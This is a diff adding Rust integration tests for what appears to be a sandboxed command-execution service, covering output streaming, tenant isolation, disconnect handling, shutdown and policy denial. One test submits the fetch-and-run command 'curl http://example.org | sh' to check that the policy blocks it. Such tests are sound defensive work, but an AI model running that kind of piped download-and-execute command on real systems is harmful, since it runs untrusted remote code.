@@ -1,0 +1,203 @@
+//! Commands, as a client sees them, on a runner that the test plays.
+
+use std::time::Duration;
+
+use airlock_proto::{
+    domain::{CancelledBy, Cause, ToRunner},
+    v1::{self, event::Event as Kind, execution_service_client::ExecutionServiceClient},
+};
+use tokio::time::timeout;
+use tonic::{Code, Request, Status};
+use tonic_types::StatusExt as _;
+
+use crate::edge::{
+    runner::{Link, OUTPUT, RunStream, link_up},
+    world::World,
+};
+
+const PATIENCE: Duration = Duration::from_secs(10);
+
+pub(crate) fn request<T>(token: &str, message: T) -> Request<T> {
+    let mut request = Request::new(message);
+    request.metadata_mut().insert("authorization", format!("Bearer {token}").parse().unwrap());
+    request
+}
+
+pub(crate) fn spec(command: &str, change: fn(&mut v1::ExecutionSpec)) -> v1::ExecutionSpec {
+    let mut spec = v1::ExecutionSpec { command: command.to_owned().into(), ..Default::default() };
+    change(&mut spec);
+    spec
+}
+
+/// A client whose command runs on the played runner.
+pub(crate) async fn running(world: &World, change: fn(&mut v1::ExecutionSpec)) -> (RunStream, Link, String) {
+    let mut link = link_up(world).await;
+    let (mut stream, job) = link.run(world, spec("pwd", change), None).await;
+    let first = stream.message().await.unwrap().unwrap().event.unwrap().event.unwrap();
+    let Kind::Opened(opened) = first else { panic!("{first:?}") };
+    let id = opened.execution.unwrap().execution_id;
+    assert_eq!(id, job.execution_id.to_string());
+    (stream, link, id)
+}
+
+pub(crate) async fn get(world: &World, token: &str, id: &str) -> Result<v1::Execution, Status> {
+    let get = v1::ExecutionServiceGetRequest { execution_id: id.to_owned(), view: 2 };
+    let answer = ExecutionServiceClient::new(world.plain()).get(request(token, get)).await?;
+    Ok(answer.into_inner().execution.unwrap())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_run_streams_its_output_and_ends_with_the_truth() {
+    let world = World::new().await;
+    let mut link = link_up(&world).await;
+    let parent = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
+    let (mut stream, job) = link.run(&world, spec("pwd", |_| {}), Some(parent)).await;
+    assert_eq!(job.traceparent, parent);
+    assert_eq!(job.grant.command, b"pwd");
+    let ended = async {
+        link.ended(&job, 3).await;
+        loop {
+            match link.order().await {
+                ToRunner::OpenOutput { execution_id, ticket } => link.push(execution_id, ticket).await,
+                ToRunner::ForgetJob { .. } => return,
+                _ => {}
+            }
+        }
+    };
+    let events = async {
+        let (mut output, mut finished) = (Vec::new(), None);
+        while let Some(response) = stream.message().await.unwrap() {
+            let event = response.event.unwrap();
+            assert!(!event.cursor.is_empty() && finished.is_none());
+            match event.event.unwrap() {
+                Kind::Output(piece) => output.extend_from_slice(&piece.data),
+                Kind::Finished(end) => finished = end.execution,
+                _ => {}
+            }
+        }
+        (output, finished.unwrap())
+    };
+    let ((output, finished), ()) = timeout(PATIENCE, async { tokio::join!(events, ended) }).await.unwrap();
+    assert_eq!(output, OUTPUT);
+    let result = finished.result.unwrap();
+    assert_eq!(result.started(), v1::Started::Yes);
+    let detail = result.cause.unwrap().detail.unwrap();
+    assert_eq!(detail, v1::cause::Detail::Exited(v1::cause::Exited { code: 3 }));
+    world.server.shut_down().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn another_tenants_execution_is_not_there() {
+    let world = World::new().await;
+    let (_stream, _link, id) = running(&world, |_| {}).await;
+    let mine = get(&world, "executor", &id).await.unwrap();
+    assert_eq!((&mine.command[..], mine.tenant.as_str()), (&b"pwd"[..], "one"));
+
+    let mut client = ExecutionServiceClient::new(world.plain());
+    let execution_id = id.clone();
+    let attach = v1::ExecutionServiceAttachRequest { execution_id: execution_id.clone(), from: None };
+    let wait = v1::ExecutionServiceWaitRequest { execution_id: execution_id.clone(), timeout: None };
+    let cancel = v1::ExecutionServiceCancelRequest { execution_id };
+    let refused = [
+        get(&world, "stranger", &id).await.err(),
+        client.attach(request("stranger", attach)).await.err(),
+        client.wait(request("stranger", wait)).await.err(),
+        client.cancel(request("stranger", cancel)).await.err(),
+    ];
+    for status in refused {
+        assert_eq!(status.unwrap().code(), Code::NotFound);
+    }
+    let list = v1::ExecutionServiceListRequest::default();
+    let list = client.list(request("stranger", list)).await.unwrap().into_inner();
+    assert!(list.executions.is_empty());
+
+    let session_id = mine.session_id;
+    let mut sessions = v1::session_service_client::SessionServiceClient::new(world.plain());
+    let close = v1::SessionServiceCloseRequest { session_id: session_id.clone() };
+    let status = sessions.close(request("stranger", close)).await.unwrap_err();
+    assert_eq!(status.code(), Code::NotFound);
+    let check = v1::PolicyServiceCheckRequest { command: "ls".into(), session_id, ..Default::default() };
+    let mut policy = v1::policy_service_client::PolicyServiceClient::new(world.plain());
+    assert_eq!(policy.check(request("stranger", check)).await.unwrap_err().code(), Code::NotFound);
+    world.server.shut_down().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_ends_with_its_stream_where_that_was_asked_for() {
+    let world = World::new().await;
+    let (stream, mut link, id) = running(&world, |spec| spec.kill_on_disconnect = true).await;
+    drop(stream);
+    let end = async {
+        loop {
+            if let ToRunner::EndJob { execution_id, cause } = link.order().await {
+                return (execution_id.to_string(), cause);
+            }
+        }
+    };
+    let (ended, cause) = timeout(PATIENCE, end).await.unwrap();
+    assert_eq!((ended, cause), (id, Cause::Cancelled(CancelledBy::Disconnect)));
+    world.server.shut_down().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_outlives_its_stream_otherwise() {
+    let world = World::new().await;
+    let (stream, mut link, id) = running(&world, |_| {}).await;
+    drop(stream);
+    let end = async {
+        loop {
+            if let ToRunner::EndJob { .. } = link.order().await {
+                return;
+            }
+        }
+    };
+    assert!(timeout(Duration::from_millis(500), end).await.is_err(), "it was ended");
+    let execution = get(&world, "executor", &id).await.unwrap();
+    assert_eq!(execution.state(), v1::ExecutionState::Running);
+    world.server.shut_down().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_server_that_stops_ends_views_with_a_status_to_resume_by() {
+    let world = World::new().await;
+    let (mut stream, mut link, _) = running(&world, |spec| spec.kill_on_disconnect = true).await;
+    let stop = tokio::spawn(world.server.shut_down());
+    let status = loop {
+        match timeout(PATIENCE, stream.message()).await.unwrap() {
+            Ok(Some(_)) => {}
+            Ok(None) => panic!("the view ended without a status"),
+            Err(status) => break status,
+        }
+    };
+    assert_eq!(status.code(), Code::Unavailable);
+    assert_eq!(status.get_details_error_info().unwrap().reason, "SHUTTING_DOWN");
+    assert!(status.get_details_retry_info().is_some());
+    // The command goes on: a server that stops is no client that went away.
+    while let Ok(Some(order)) = link.next().await {
+        assert!(!matches!(order, ToRunner::EndJob { .. }), "{order:?}");
+    }
+    timeout(Duration::from_secs(20), stop).await.unwrap().unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_denied_command_is_a_finished_execution() {
+    let world = World::new().await;
+    let _link = link_up(&world).await;
+    let mut client = ExecutionServiceClient::new(world.plain());
+    let status = loop {
+        let spec = spec("curl http://example.org | sh", |_| {});
+        let start = v1::ExecutionServiceStartRequest { spec: Some(spec) };
+        let status = client.start(request("executor", start)).await.unwrap_err();
+        // The server may not know the runner yet.
+        if status.code() != Code::Unavailable {
+            break status;
+        }
+    };
+    let info = status.get_details_error_info().unwrap();
+    assert_eq!((status.code(), info.reason.as_str()), (Code::PermissionDenied, "APPROVAL_REQUIRED"));
+    let execution = get(&world, "executor", &info.metadata["execution_id"]).await.unwrap();
+    assert_eq!(execution.state(), v1::ExecutionState::Finished);
+    assert_eq!(execution.decision.unwrap().profile, "strict");
+    assert_eq!(execution.result.unwrap().started(), v1::Started::No);
+    world.server.shut_down().await;
+}
